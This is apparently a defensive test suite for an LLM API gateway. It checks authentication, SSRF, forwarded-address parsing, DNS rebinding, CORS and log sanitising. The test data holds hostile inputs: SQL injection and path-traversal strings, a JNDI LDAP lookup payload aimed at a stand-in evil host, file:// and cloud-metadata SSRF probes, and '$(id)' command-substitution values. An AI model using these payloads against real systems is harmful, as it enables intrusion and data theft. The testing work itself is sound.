/**
 * Auth, injection, SSRF, forwarded addresses, rebinding and CORS, seen from outside.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { chatBody, Scene } from '../helpers/oracle.ts';
import { startRawEngine } from '../helpers/raw-engine.ts';
import { get, post, type WireResponse } from '../helpers/test-gateway.ts';

let scene: Scene;
before(async () => {
  scene = await Scene.open();
});
after(() => scene.close());

const chat = 'POST /v1/chat/completions';

/** A body without what differs from request to request. */
function nameless(response: WireResponse): string {
  return response.body.toString().replaceAll(/req_\w+/g, 'req');
}

function request(fields: string, path = '/v1/models'): string {
  return `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${fields}\r\n`;
}

describe('a credential that is not good', () => {
  const wrong: readonly (readonly [name: string, fields: () => string])[] = [
    ['none', () => ''],
    ['an empty Authorization', () => 'Authorization: \r\n'],
    ['an empty x-api-key', () => 'X-Api-Key: \r\n'],
    ['an empty api-key', () => 'Api-Key: \r\n'],
    ['SQL in the bearer', () => "Authorization: Bearer ' OR 1=1--\r\n"],
    ['SQL in x-api-key', () => "X-Api-Key: x' UNION SELECT digest FROM api_key--\r\n"],
    ['a path', () => 'X-Api-Key: ../../etc/passwd\r\n'],
    ['a template', () => `X-Api-Key: $\{jndi:ldap://evil.example/x} {{7*7}} %n%s\r\n`],
    ['16 KB', () => `Authorization: Bearer ${'a'.repeat(15_000)}\r\n`],
    ['the scheme alone', () => 'Authorization: Bearer\r\n'],
    ['the scheme and a space', () => 'Authorization: Bearer \r\n'],
    ['no scheme', () => `Authorization: ${scene.key}\r\n`],
    ['a tab behind the scheme', () => `Authorization: Bearer\t${scene.key}\r\n`],
    ['Basic', () => `Authorization: Basic ${Buffer.from(`x:${scene.key}`).toString('base64')}\r\n`],
    ['Digest', () => `Authorization: Digest username="x", nonce="${scene.key}"\r\n`.replace(', ', ' ')],
    ['bytes beyond ASCII', () => 'Authorization: Bearer \xff\xfe\xe9\r\n'],
    ['the key and a word more', () => `Authorization: Bearer ${scene.key} x\r\n`],
    ['the key but for its last character', () => `Authorization: Bearer ${scene.key.slice(0, -1)}\r\n`],
    ['the key and a character more', () => `Authorization: Bearer ${scene.key}a\r\n`],
    ['the key in upper case', () => `Authorization: Bearer ${scene.key.toUpperCase()}\r\n`],
    ['the prototype', () => 'Authorization: Bearer __proto__\r\n'],
    ['a key in the query', () => ''],
    ['a key in a cookie', () => `Cookie: Authorization=Bearer ${scene.key}\r\n`],
    [
      'a key in another field',
      () => `X-Goog-Api-Key: ${scene.key}\r\nProxy-Authorization: Bearer ${scene.key}\r\n`,
    ],
  ];
  let expected: string;
  before(async () => {
    expected = nameless(await scene.ask(request('')));
  });
  for (const [name, fields] of wrong) {
    test(`${name}: 401, the same for every reason`, async () => {
      const path = name.endsWith('query') ? `/v1/models?api_key=${scene.key}&key=${scene.key}` : '/v1/models';
      const response = await scene.ask(Buffer.from(request(fields(), path), 'latin1'));
      assert.equal(response.status, 401);
      assert.equal(nameless(response), expected);
      assert.equal(response.field('www-authenticate'), 'Bearer');
      await scene.unharmed();
    });
  }
  test('on a path that does not exist the answer is the same', async () => {
    assert.equal(nameless(await scene.ask(request('', '/admin'))), expected);
    assert.equal(nameless(await scene.ask(request('', '/metrics'))), expected);
    await scene.unharmed();
  });
  test('the digest of a key is no key', async () => {
    const [digest] = scene.door.snapshots.current().keysByDigest.keys();
    assert.equal((await scene.ask(get('/v1/models', digest ?? ''))).status, 401);
    await scene.unharmed();
  });
});

describe('a good credential', () => {
  const good: readonly (readonly [name: string, fields: () => string])[] = [
    ['in Authorization', () => `Authorization: Bearer ${scene.key}\r\n`],
    ['with the scheme in any case', () => `Authorization: bEARER ${scene.key}\r\n`],
    ['with two spaces', () => `Authorization: Bearer  ${scene.key}\r\n`],
    ['with spaces behind it', () => `Authorization: Bearer ${scene.key}  \r\n`],
    ['in x-api-key', () => `X-API-KEY: ${scene.key}\r\n`],
    ['in api-key', () => `api-key:${scene.key}\r\n`],
  ];
  for (const [name, fields] of good)
    test(`${name} is taken`, async () => {
      assert.equal((await scene.ask(request(fields()))).status, 200);
      await scene.unharmed();
    });

  test('that is revoked is told so, and only with the full right secret', async () => {
    const key = scene.addKey();
    scene.door.revoke(key);
    const response = await scene.ask(get('/v1/models', key));
    assert.equal(response.status, 401);
    assert.match(response.body.toString(), /This API key was revoked/);
    const other = await scene.ask(get('/v1/models', key.slice(0, -1)));
    assert.match(other.body.toString(), /No valid API key was given/);
    await scene.unharmed();
  });
  test('that is revoked while its connection is kept alive is refused from then on', async () => {
    const key = scene.addKey();
    const wire = await scene.dial();
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 200);
    scene.door.revoke(key);
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 401);
    await scene.unharmed();
  });
  test('that is paused is refused with its own code until it is resumed, also on a kept-alive connection', async () => {
    const key = scene.addKey();
    const wire = await scene.dial();
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 200);
    scene.door.pause(key);
    const refused = await wire.send(get('/v1/models', key)).response();
    assert.equal(refused.status, 403);
    assert.match(refused.body.toString(), /This API key is paused\..*flm key resume/);
    assert.match(refused.body.toString(), /"code":"AUTH_PAUSED"/i);
    scene.door.pause(key, false);
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 200);
    await scene.unharmed();
  });
  test('expires on a kept-alive connection', async () => {
    const key = scene.addKey({ expiresAtMs: scene.clock.nowMs() + 5_000 });
    const wire = await scene.dial();
    assert.equal((await wire.send(get('/v1/models', key)).response()).status, 200);
    await scene.clock.move(5_000);
    const response = await wire.send(get('/v1/models', key)).response();
    assert.equal(response.status, 401);
    assert.match(response.body.toString(), /has expired/);
    await scene.unharmed();
  });
  test('does not lend itself to the next request of its connection', async () => {
    const wire = await scene.dial();
    assert.equal((await wire.send(get('/v1/models', scene.key)).response()).status, 200);
    assert.equal((await wire.send(request('')).response()).status, 401);
    assert.equal((await wire.send(get('/v1/models', 'flm_wrong')).response()).status, 401);
    await scene.unharmed();
  });
});

describe('guessing', () => {
  test('is slowed down after twenty failures, and a good key is not', async () => {
    await scene.clock.move(600_000);
    const wire = await scene.dial();
    for (let i = 0; i < 20; i++)
      assert.equal((await wire.send(get('/v1/models', `flm_${i}`)).response()).status, 401);
    const response = await wire.send(get('/v1/models', 'flm_20')).response();
    assert.equal(response.status, 429);
    assert.equal(response.field('retry-after'), '6');
    // A client that guesses on cannot push the logins of others out of the audit.
    assert.deepEqual(scene.door.refusedLogins.slice(-2), [false, true]);
    assert.equal((await wire.send(get('/v1/models', scene.key)).response()).status, 200);
    await scene.clock.move(6_000);
    assert.equal((await wire.send(get('/v1/models', 'flm_21')).response()).status, 401);
    await scene.unharmed();
    await scene.clock.move(600_000);
  });
});

describe('what a body names is not called', () => {
  const names = ['api_base', 'base_url', 'user_config', 'extra_headers', 'proxy', 'webhook', 'callback_url'];
  test('by flm, whatever the field', async () => {
    const sink = await startRawEngine([]);
    try {
      const body = JSON.stringify({
        model: 'm',
        ...Object.fromEntries(names.map((name) => [name, sink.url])),
        messages: [
          { role: 'user', content: [{ type: 'image_url', image_url: { url: `${sink.url}/x.png` } }] },
          { role: 'user', content: [{ type: 'image_url', image_url: { url: 'file:///etc/passwd' } }] },
        ],
      });
      assert.equal((await scene.ask(post('/v1/chat/completions', scene.key, body))).status, 200);
      assert.equal(scene.engine.requests.at(-1)?.body.toString(), body);
      assert.equal(sink.connections, 0);
    } finally {
      await sink.close();
    }
    await scene.unharmed([chat]);
  });
  for (const model of ['http://169.254.169.254/', 'flm://evil/m', '../../m', ' m', 'M', 'm/../m'])
    test(`a model ${JSON.stringify(model)} is a model that does not exist`, async () => {
      const response = await scene.ask(post('/v1/chat/completions', scene.key, JSON.stringify({ model })));
      assert.equal(response.status, 404);
      assert.match(response.body.toString(), /"code":"model_not_found"/);
      await scene.unharmed();
    });
});

describe('a forwarded address', () => {
  async function clientOf(fields: string): Promise<string | undefined> {
    const response = await scene.ask(get('/v1/models', scene.key, fields));
    assert.equal(response.status, 200);
    return scene.door.lines.at(-1)?.client;
  }
  const xff = (value: string) => `X-Forwarded-For: ${value}\r\n`;

  test('from a peer that is no trusted proxy is not believed', async () => {
    assert.equal(await clientOf(xff('10.0.0.1')), '127.0.0.1');
    assert.equal(await clientOf('Forwarded: for=10.0.0.1\r\n'), '127.0.0.1');
    await scene.unharmed();
  });

  const walks: readonly (readonly [name: string, fields: string, client: string])[] = [
    ['one hop', xff('203.0.113.7'), '203.0.113.7'],
    ['a forged hop before it', xff('1.2.3.4, 203.0.113.7'), '203.0.113.7'],
    ['trusted hops behind it', xff('1.2.3.4, 203.0.113.7, 10.0.0.5, 10.0.0.6'), '203.0.113.7'],
    ['several lines', xff('1.2.3.4') + xff('203.0.113.7') + xff('10.0.0.5'), '203.0.113.7'],
    ['a mapped address', xff('::ffff:203.0.113.7'), '203.0.113.7'],
    ['a port', xff('203.0.113.7:8080'), '203.0.113.7'],
    ['brackets and a port', xff('[2001:db8::7]:8080'), '2001:db8::7'],
    ['rubbish to the left', xff('<script>, 203.0.113.7'), '203.0.113.7'],
    ['only trusted hops', xff('10.0.0.4, 10.0.0.5'), '10.0.0.4'],
    ['Forwarded', 'Forwarded: for=203.0.113.7;proto=https\r\n', '203.0.113.7'],
    ['Forwarded with quotes', 'Forwarded: for="[2001:db8::7]:80"\r\n', '2001:db8::7'],
    ['a forged Forwarded before it', 'Forwarded: for=1.2.3.4, for=203.0.113.7\r\n', '203.0.113.7'],
    [
      'a forged Forwarded that it let pass',
      `Forwarded: for=1.2.3.4\r\n${xff('203.0.113.7')}Forwarded: for=10.0.0.5\r\n`,
      '203.0.113.7',
    ],
  ];
  for (const [name, fields, client] of walks)
    test(`from a trusted proxy: ${name}`, async () => {
      scene.door.setPolicy({ trustedProxies: ['127.0.0.1', '10.0.0.0/8'] });
      assert.equal(await clientOf(fields), client);
      await scene.unharmed();
    });

  const unreadable: readonly (readonly [name: string, fields: string, field: string])[] = [
    ['rubbish to the right', xff('203.0.113.7, unknown'), 'X-Forwarded-For'],
    ['rubbish behind a trusted hop', xff('203.0.113.7, unknown, 10.0.0.5'), 'X-Forwarded-For'],
    ['rubbish in the last of several lines', xff('203.0.113.7') + xff('unknown'), 'X-Forwarded-For'],
    ['a short form', xff('127.1'), 'X-Forwarded-For'],
    ['nothing', xff(''), 'X-Forwarded-For'],
    ['an empty hop', xff('203.0.113.7,'), 'X-Forwarded-For'],
    ['a hidden hop', 'Forwarded: for=203.0.113.7, for=_hidden\r\n', 'Forwarded'],
    ['an unknown hop', 'Forwarded: for=unknown\r\n', 'Forwarded'],
    ['no hop', 'Forwarded: proto=https\r\n', 'Forwarded'],
    ['an open quote', 'Forwarded: for="203.0.113.7\r\n', 'Forwarded'],
  ];
  for (const [name, fields, field] of unreadable)
    test(`from a trusted proxy that cannot be read is refused by both readers, and named: ${name}`, async () => {
      // The proxy's own address is let in: without the refusal the request would pass.
      scene.door.setPolicy({ trustedProxies: ['127.0.0.1', '10.0.0.0/8'], denyIps: ['203.0.113.0/24'] });
      for (const odd of ['', 'X-Name: \xe4\r\n'])
        for (const key of [scene.key, 'wrong']) {
          const response = await scene.ask(get('/v1/models', key, fields + odd));
          assert.equal(response.status, 400);
          assert.match(response.body.toString(), new RegExp(` in its ${field} field is not an IP address`));
          assert.equal(scene.door.lines.at(-1)?.client, '127.0.0.1');
        }
      scene.door.setPolicy({});
      assert.equal((await scene.ask(get('/v1/models', scene.key, fields))).status, 200);
      await scene.unharmed();
    });

  test('is held to the lists of the policy and of the key', async () => {
    scene.door.setPolicy({ trustedProxies: ['127.0.0.1'], denyIps: ['10.0.0.1'] });
    const denied = get('/v1/models', scene.key, xff('::ffff:10.0.0.1'));
    assert.match((await scene.ask(denied)).body.toString(), /address_denied/);
    const own = scene.addKey({ addresses: ['192.0.2.0/24'] });
    assert.match((await scene.ask(get('/v1/models', own))).body.toString(), /key_address_denied/);
    assert.equal((await scene.ask(get('/v1/models', own, xff('192.0.2.9')))).status, 200);
    scene.door.setPolicy({ trustedProxies: ['127.0.0.1'], allowIps: ['192.0.2.9'] });
    assert.equal((await scene.ask(get('/v1/models', scene.key, xff('192.0.2.9')))).status, 200);
    assert.match((await scene.ask(get('/v1/models', scene.key))).body.toString(), /address_denied/);
    await scene.unharmed();
  });

  test('counts for rates, and a mapped one is the same one', async () => {
    scene.door.setPolicy({ trustedProxies: ['127.0.0.1'], requestsPerMinutePerAddress: 2 });
    const statuses: number[] = [];
    for (const value of ['192.0.2.1', '::ffff:192.0.2.1', '::ffff:c000:201', '192.0.2.2'])
      statuses.push((await scene.ask(get('/v1/models', scene.key, xff(value)))).status);
    assert.deepEqual(statuses, [200, 200, 429, 200]);
    await scene.unharmed();
  });
});

describe('rebinding', () => {
  for (const path of [
    '/v1/models',
    '/health',
    '/ready',
    '/metrics',
    '/',
    '/.well-known/acme-challenge/x',
    '/ui',
  ])
    test(`a name that is not ours is refused at ${path}, key or not`, async () => {
      for (const credential of ['', `Authorization: Bearer ${scene.key}\r\n`]) {
        const bytes = `GET ${path} HTTP/1.1\r\nHost: attacker.example:8484\r\n${credential}\r\n`;
        const response = await scene.ask(bytes);
        assert.equal(response.status, 421);
        assert.match(response.body.toString(), /start the proxy with --public-host [a-z0-9.-]+\./);
      }
      await scene.unharmed();
    });
  for (const host of [
    '127.0.0.1.attacker.example',
    'localhost.attacker.example',
    'xlocalhost',
    '127.1',
    '2130706433',
    '0x7f.1',
  ])
    test(`${host} is not ours`, async () => {
      assert.equal((await scene.ask(`GET /health HTTP/1.1\r\nHost: ${host}\r\n\r\n`)).status, 421);
      await scene.unharmed();
    });
});

describe('CORS', () => {
  const app = 'https://app.example.org';
  const allowed = { allowOrigins: [app, 'http://localhost:3000'] };
  const origin = (value: string) => `Origin: ${value}\r\n`;
  const preflight = (value: string, more = '') =>
    `OPTIONS /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nOrigin: ${value}\r\nAccess-Control-Request-Method: POST\r\n${more}\r\n`;

  test('by default no page may call, and none may read the answer', async () => {
    const response = await scene.ask(get('/v1/models', scene.key, origin(app)));
    assert.equal(response.status, 403);
    assert.doesNotMatch(response.head, /access-control-/i);
    const options = await scene.ask(preflight(app));
    assert.equal(options.status, 403);
    assert.doesNotMatch(options.head, /access-control-/i);
    await scene.unharmed();
  });

  const foreign = [
    'null',
    'https://app.example.org.evil.example',
    'https://APP.example.org',
    'https://app.example.org:8443',
    'https://app.example.org/',
    'http://app.example.org',
    'https://app.example.org, https://evil.example',
    'https://app.example.org https://evil.example',
    'https://evil.example',
    '*',
    '',
  ];
  for (const value of foreign)
    test(`an origin ${JSON.stringify(value)} is not an allowed one`, async () => {
      scene.door.setPolicy(allowed);
      for (const bytes of [get('/v1/models', scene.key, origin(value)), preflight(value)]) {
        const response = await scene.ask(bytes);
        assert.equal(response.status, 403);
        assert.doesNotMatch(response.head, /access-control-allow/i);
        assert.equal(response.field('vary'), 'Origin');
      }
      await scene.unharmed();
    });
  test('an allowed origin twice is not an allowed one', async () => {
    scene.door.setPolicy(allowed);
    const response = await scene.ask(
      get('/v1/models', scene.key, origin(app) + origin('https://evil.example')),
    );
    assert.equal(response.status, 400);
    assert.doesNotMatch(response.head, /access-control-allow/i);
    await scene.unharmed();
  });
  test('a desktop app is allowed by its own origin, as the refusal of it says', async () => {
    const obsidian = 'app://obsidian.md';
    scene.door.setPolicy(allowed);
    const refused = await scene.ask(get('/v1/models', scene.key, origin(obsidian)));
    assert.equal(refused.status, 403);
    assert.match(refused.body.toString(), /`flm policy set --allow-origin app:\/\/obsidian\.md`/);
    scene.door.setPolicy({ allowOrigins: [obsidian] });
    const response = await scene.ask(get('/v1/models', scene.key, origin(obsidian)));
    assert.equal(response.status, 200);
    assert.equal(response.field('access-control-allow-origin'), obsidian);
    assert.equal((await scene.ask(preflight(obsidian))).status, 204);
    await scene.unharmed();
  });
  test('what cannot be allowed is not advised', async () => {
    for (const value of ['null', 'file://', '*', '`id`', 'app://$(id)']) {
      const said = (await scene.ask(get('/v1/models', scene.key, origin(value)))).body.toString();
      assert.match(said, /--allow-origin URL/);
      assert.ok(!said.includes('$(id)') && !said.includes('`id`'), said);
    }
    await scene.unharmed();
  });
  test('an allowed page reads answers, and refusals as well', async () => {
    scene.door.setPolicy(allowed);
    const cases = [
      [get('/v1/models', scene.key, origin(app)), 200],
      [get('/nothing', scene.key, origin(app)), 404],
      [get('/v1/models', 'flm_wrong', origin(app)), 401],
      [post('/v1/chat/completions', scene.key, chatBody, origin(app)), 200],
    ] as const;
    for (const [bytes, status] of cases) {
      const response = await scene.ask(bytes);
      assert.equal(response.status, status);
      assert.equal(response.field('access-control-allow-origin'), app);
      assert.match(response.field('access-control-expose-headers') ?? '', /x-request-id/);
      assert.equal(response.field('access-control-allow-credentials'), undefined);
      assert.equal(response.field('vary'), 'Origin');
    }
    await scene.unharmed([chat]);
  });
  test('an answer without an origin says that it depends on it', async () => {
    scene.door.setPolicy(allowed);
    const response = await scene.ask(get('/v1/models', scene.key));
    assert.equal(response.field('vary'), 'Origin');
    assert.equal(response.field('access-control-allow-origin'), undefined);
    await scene.unharmed();
  });

  test('a preflight needs no key and grants none', async () => {
    scene.door.setPolicy(allowed);
    const response = await scene.ask(
      preflight(app, 'Access-Control-Request-Headers: authorization,content-type,cookie,x-stainless-os\r\n'),
    );
    assert.equal(response.status, 204);
    assert.equal(response.field('access-control-allow-origin'), app);
    assert.equal(
      response.field('access-control-allow-headers'),
      'authorization, content-type, x-stainless-os',
    );
    assert.equal(response.field('access-control-allow-methods'), 'POST');
    assert.equal(response.field('access-control-max-age'), '7200');
    assert.equal(response.field('access-control-allow-private-network'), undefined);
    assert.match(response.field('x-request-id') ?? '', /^req_/);
    assert.equal(response.field('request-id'), response.field('x-request-id'));
    assert.equal(response.field('content-length'), undefined);
    await scene.unharmed();
  });
  test('a preflight says the same of every path', async () => {
    scene.door.setPolicy(allowed);
    const heads = new Set<string>();
    for (const path of ['/v1/models', '/admin', '/metrics', '/engine/e/props']) {
      const response = await scene.ask(preflight(app).replace('/v1/chat/completions', path));
      heads.add(response.head.replaceAll(/req_\w+/g, '').replace(/^date:.*$/im, ''));
    }
    assert.equal(heads.size, 1);
    await scene.unharmed();
  });
  test('a preflight that asks for headers that no client of an API needs gets none of them', async () => {
    scene.door.setPolicy(allowed);
    for (const names of ['a b', '<script>', 'x,,y', 'cookie', 'host', `x${'y'.repeat(3000)}`]) {
      const response = await scene.ask(preflight(app, `Access-Control-Request-Headers: ${names}\r\n`));
      assert.equal(response.status, 204);
      assert.equal(response.field('access-control-allow-headers'), undefined);
    }
    await scene.unharmed();
  });
  test('a preflight from a denied address is refused, and counts against the rate of its address', async () => {
    scene.door.setPolicy({ ...allowed, denyIps: ['127.0.0.1'] });
    assert.equal((await scene.ask(preflight(app))).status, 403);
    scene.door.setPolicy({ ...allowed, requestsPerMinutePerAddress: 1 });
    assert.equal((await scene.ask(preflight(app))).status, 204);
    assert.equal((await scene.ask(preflight(app))).status, 429);
    await scene.unharmed();
  });
  test('an OPTIONS that is no preflight needs a key', async () => {
    scene.door.setPolicy(allowed);
    const bytes = 'OPTIONS /v1/models HTTP/1.1\r\nHost: localhost\r\n';
    assert.equal((await scene.ask(`${bytes}\r\n`)).status, 401);
    assert.equal((await scene.ask(`${bytes}Origin: ${app}\r\n\r\n`)).status, 401);
    assert.equal((await scene.ask(`${bytes}Access-Control-Request-Method: POST\r\n\r\n`)).status, 401);
    await scene.unharmed();
  });
  test('a form of a foreign page is refused before the engine sees it', async () => {
    const bytes = post('/v1/chat/completions', scene.key, chatBody, origin('https://evil.example'));
    const response = await scene.ask(bytes.replace('application/json', 'text/plain'));
    assert.equal(response.status, 403);
    await scene.unharmed();
  });
});

describe('a log line is one line', () => {
  const labels = ['a\nb', '\x1b[31mred', `${'x'.repeat(10_000)}`, '\u2028', '<script>', '"}{"'];
  for (const label of labels)
    test(`with a key named ${JSON.stringify(label.slice(0, 20))}`, async () => {
      const key = scene.addKey({ label });
      assert.equal((await scene.ask(get('/v1/models', key))).status, 200);
      await scene.unharmed();
    });
  test('with a model of line ends and colours', async () => {
    for (const model of ['\r\nX: y', '\u001b[31m', 'm\u0000', '\u2028', 'x'.repeat(10_000)]) {
      const response = await scene.ask(
        Buffer.from(post('/v1/chat/completions', scene.key, JSON.stringify({ model }))),
      );
      assert.ok(response.status === 400 || response.status === 404);
      assert.match(response.body.toString(), /^[\x20-\x7e]{1,1000}$/);
    }
    await scene.unharmed();
  });
  test('with a path of 10 KB', async () => {
    assert.equal((await scene.ask(get(`/${'x'.repeat(10_000)}`, scene.key))).status, 404);
    assert.ok((scene.door.lines.at(-1)?.path.length ?? 0) <= 200);
    await scene.unharmed();
  });
});
